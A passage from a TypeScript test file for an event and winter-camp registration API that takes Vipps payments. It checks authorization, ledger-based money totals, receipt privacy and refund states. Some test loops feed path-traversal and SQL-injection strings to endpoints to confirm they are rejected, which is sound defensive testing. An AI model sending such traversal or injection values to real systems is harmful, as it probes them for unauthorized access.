    expect((await inject("GET", `/api/ArrangementAdmin/Money/gradering-penger/${stranger}`)).statusCode).toBe(401);
    expect((await inject("GET", `/api/ArrangementAdmin/Money/gradering-penger/${door}`)).statusCode).toBe(403);
    for (const slug of ["finnes-ikke", "..%2F..%2Fetc", "%27%20or%201%3D1", "a".repeat(300)])
      expect([400, 404, 414], slug).toContain((await inject("GET", `/api/ArrangementAdmin/Money/${slug}/${admin}`)).statusCode);
    const money = await inject("GET", `/api/ArrangementAdmin/Money/gradering-penger/${admin}`);
    expect(money.statusCode).toBe(200);
    expect(money.json()).toMatchObject({ orders: 1, paid: 0, refunded: 0 });
    // Money in, some owed back and paid back, and a correction: the figures follow the ledger.
    const eventId = await eventIdOf(suite.database, "gradering-penger");
    const [row] = await suite.app.db.select({ id: eventOrders.id }).from(eventOrders).where(eq(eventOrders.eventId, eventId));
    const entry = (values: Partial<typeof eventLedgerEntries.$inferInsert>) =>
      suite.app.db
        .insert(eventLedgerEntries)
        .values({ orderId: row!.id, ownerKind: "order", actor: "system", reason: "Test", kind: "payment", amount: 0, at: suite.now, ...values });
    await entry({ kind: "payment", method: "cash", amount: 350 });
    await entry({ kind: "payment", method: "card", amount: 20 });
    await entry({ kind: "payment", method: "card", amount: -20 });
    await entry({ kind: "refund-owed", method: "cash", amount: 100 });
    await entry({ kind: "refund-paid", method: "other", amount: 60 });
    const after = (await inject("GET", `/api/ArrangementAdmin/Money/gradering-penger/${admin}`)).json() as Record<string, number>;
    expect(after).toMatchObject({ orders: 1, paid: 350, refundOwed: 40 });
    // The camp's edition is no event of this call's: no 500 either way.
    expect([200, 404]).toContain((await inject("GET", `/api/ArrangementAdmin/Money/vinterleir-2026/${admin}`)).statusCode);
  });

  it("CheckIfVippsOk: a stranger with an order id learns a state, no names or amounts of others; after a refunded cancellation the state is not RESERVED", async () => {
    const admin = await campAdminToken(suite.app);
    const paying = await startVippsPayment(suite.app, { firstName: "Vilde" });
    suite.sim.approve(paying.reference);
    await suite.sim.settled();
    await reconcile(suite.service);
    const plain = await inject("GET", `/api/Vipps/CheckIfVippsOk/${paying.orderId}`);
    expect(plain.statusCode).toBe(200);
    expect(plain.body).toMatch(/^[A-Z_]+$/);
    // The door cannot mark a Vipps registration paid by card or cash on top of the Vipps money.
    const door = await doorToken(admin);
    const inBefore = await moneyIn(paying.registrationId);
    expect((await inject("POST", `/api/VinterleirAdmin/MarkPaid/${paying.registrationId}/${door}`, { method: "cash" })).statusCode).toBe(409);
    expect(await moneyIn(paying.registrationId)).toBe(inBefore);
    const email = paying.body.email;
    const receipt = await inject("GET", `/api/Vipps/CheckIfVippsOk/${paying.orderId}?kvittering=1`);
    expect(receipt.body).not.toContain(email);
    expect(receipt.body).not.toContain("Nordmann");
    expect(receipt.body).not.toMatch(/telephone|email|address|@/i);
    for (const orderId of ["VL26-AAAAAA", "x", "' or 1=1 --", "a".repeat(500), `${paying.orderId}-1`])
      expect([400, 404, 414], orderId).toContain((await inject("GET", `/api/Vipps/CheckIfVippsOk/${encodeURIComponent(orderId)}`)).statusCode);

    expect((await inject("POST", `/api/VinterleirAdmin/Cancel/${paying.registrationId}/${admin}`)).statusCode).toBe(200);
    await suite.sim.settled();
    await reconcile(suite.service);
    const after = await inject("GET", `/api/Vipps/CheckIfVippsOk/${paying.orderId}`);
    expect(after.statusCode).toBe(200);
    expect(after.body).not.toBe("RESERVED");
    expect(after.body).toMatch(/^(CANCELLED|REFUNDED)$/);
    const afterReceipt = (await inject("GET", `/api/Vipps/CheckIfVippsOk/${paying.orderId}?kvittering=1`)).json() as { receipt: unknown };
    expect(afterReceipt.receipt).toBeNull();
  });
});
